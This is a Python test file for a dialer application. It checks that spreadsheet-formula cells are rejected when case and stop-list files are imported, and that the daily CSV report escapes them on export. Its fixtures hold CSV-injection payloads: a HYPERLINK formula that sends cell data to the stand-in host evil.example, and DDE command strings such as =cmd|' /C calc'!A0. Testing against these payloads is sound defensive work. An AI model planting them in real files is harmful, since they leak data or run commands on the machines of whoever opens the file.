"""Spreadsheet formulas are refused on import and neutralised in the daily CSV export."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from dialer.imports.case_rows import parse_case_file
from dialer.imports.formulas import formula_like, neutralise
from dialer.imports.service import import_stop_list
from dialer.imports.stop_rows import parse_stop_file
from dialer.kit.errors import ImportRejected
from scheduling.stats import daily_report, render_csv
from tests.factories import make_client, make_user
from tests.imports.test_service import NOW
from tests.imports_hardening.xlsx_files import row, xlsx

HEADER = "account_ref,debtor_name,debtor_numbers,total_owed,overdue_days,product"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"详情")'


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-", HYPERLINK])
def test_formula_like_texts(text):
    assert formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.5", "+8613800138000", "-1,234.50", "1e5", "张三", "A-1", "", "'=1"])
def test_numbers_and_plain_text_are_not_formulas(text):
    assert not formula_like(text)
    assert neutralise(text) == text


def test_given_formulas_in_free_text_then_each_is_refused_with_its_line_and_column():
    content = (
        f"{HEADER}\n"
        f'A-1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",13800138000,100,1,信用卡\n'
        "A-2,王五,+86 138 0013 8001,100,1,@SUM(1)\n"
        "A-3,李四,13800138002,100,1,\t-cmd\n"
        "=A4,赵六,13800138003,100,1,\n"
    ).encode()

    parsed = parse_case_file("cases.csv", content)

    found = {(e.line, e.column): e.reason for e in parsed.errors}
    assert set(found) == {(2, "debtor_name"), (3, "product"), (4, "product"), (5, "account_ref")}
    assert found[(2, "debtor_name")] == (
        "debtor_name '=HYPERLINK(\"http://evil.example/?\"&A2,\"详…' starts like a spreadsheet formula ('='): "
        "remove the leading character"
    )
    assert parsed.rows == ()


def test_given_a_formula_in_an_xlsx_text_cell_then_refused_too():
    sheet = xlsx([row(1, "number", "reason"), row(2, "13800138000", "=cmd|' /C calc'!A0")])

    parsed = parse_stop_file("stop.xlsx", sheet)

    assert [(e.line, e.column) for e in parsed.errors] == [(2, "reason")]


async def test_given_a_stop_list_with_a_formula_reason_then_nothing_is_stored(session):
    client = await make_client(session)
    content = "number,reason\n13800138000,客户投诉\n13800138001,@SUM(1+1)*cmd\n".encode()

    with pytest.raises(ImportRejected) as rejected:
        await import_stop_list(session, client_id=client.id, filename="stop.csv", content=content, actor=None, now=NOW)

    assert rejected.value.body()["errors"] == [{
        "line": 3, "column": "reason",
        "reason": "reason '@SUM(1+1)*cmd' starts like a spreadsheet formula ('@'): remove the leading character",
    }]


async def test_given_admin_typed_formulas_in_team_and_agent_then_daily_csv_neutralises_them(session):
    await make_user(session, username="=HYPERLINK(\"http://evil\")", team="+cmd|' /C calc'!A0")
    await make_user(session, username="wang", team="-2+3")

    text = render_csv(await daily_report(session, day=dt.date(2026, 3, 1), now=NOW))

    rows = list(csv.DictReader(io.StringIO(text)))
    agents = {r["agent"] for r in rows if r["scope"] == "agent"}
    teams = {r["team"] for r in rows if r["team"]}
    assert agents == {"'=HYPERLINK(\"http://evil\")", "wang"}
    assert teams == {"'+cmd|' /C calc'!A0", "'-2+3"}
    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+@\t\r"]
